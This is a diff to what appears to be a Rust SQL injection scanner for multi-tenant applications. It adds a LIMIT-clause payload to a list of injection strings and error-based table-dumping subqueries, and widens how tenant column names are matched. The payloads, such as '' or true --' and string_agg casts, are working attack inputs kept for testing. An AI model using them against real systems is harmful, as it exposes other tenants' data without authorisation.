@@ -76,12 +76,13 @@ impl Plan {
 /// Texts that are SQL to those who glue.
 const INJECTIONS: [&str; 4] = ["' or true --", "%' or true or '' like '%", "') or true --", "true or true"];
 
-/// The same, for whole statements, for expressions, and for those that end the statement which they are part of; `%` is a
+/// The same, for whole statements, for expressions, for what rows are sorted by, and for those that end the statement which they are part of; `%` is a
 /// table, and `&` makes the columns that are answered of the first.
-const QUERIES: [&str; 5] = [
+const QUERIES: [&str; 6] = [
     "select to_jsonb(t) from % t",
     "(select string_agg(t::text, ',') from % t)",
     "(select string_agg(t::text, ',')::int from % t)",
+    "1 limit (select string_agg(t::text, ',')::int from % t)",
     "(select string_agg(t::text, ',') from % t))& from (values (1)) rls_one (one) --",
     "(select string_agg(t::text, ',') from % t)& from (values (1)) rls_one (one) --",
 ];
@@ -286,6 +287,7 @@ fn is_tenant_name(world: &World<'_>, name: &str) -> bool {
     let Some(tenant) = &world.tenancy.tenant else { return false };
     let table = world.tenant_table().map(|table| names::singular(&table.name)).unwrap_or_default();
     name == tenant.column
+        || tenant.column.strip_suffix("_id") == Some(name)
         || name == table
         || name == format!("{table}_id")
         || world.tenancy.members.as_ref().is_some_and(|members| members.tenant == name)
